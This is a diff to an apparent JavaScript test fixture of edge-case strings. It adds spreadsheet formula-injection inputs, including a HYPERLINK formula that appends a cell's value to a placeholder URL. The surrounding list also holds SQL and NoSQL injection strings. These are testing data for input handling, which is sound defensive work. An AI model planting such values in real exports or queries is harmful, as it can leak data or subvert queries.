@@ -22,6 +22,10 @@ const unicode = [
   ...['e\u0301', '\u5b57', '\u{1f600}'].flatMap((letter) => [letter.repeat(50), letter.repeat(51)]),
 ]
 const spaces = ['', ' ', '  ', '\t', '\n', 'P 1', ' P-1', 'P-1\n']
+const formulas = words('=1+1 +1 -1 @A1 =HYPERLINK("http://x/?"&B2,"ok") \uff1d1 1=1').concat(
+  ' =1',
+  '\u3000=1',
+)
 const lookalikes = [...words("- 0 # 5 '5' 5.0 1e400 null true {{x}} %s .."), "' OR 1=1 --", '{"$gt":""}']
 const lengths = [30, 31, 34, 35, 100, 101].flatMap((length) =>
   ['A', '8', '\u5b57'].map((letter) => letter.repeat(length)),
@@ -32,6 +36,7 @@ const texts = [
   ...unicode,
   ...spaces,
   ...lookalikes,
+  ...formulas,
   ...lengths,
   'A'.repeat(10_240),
 ]
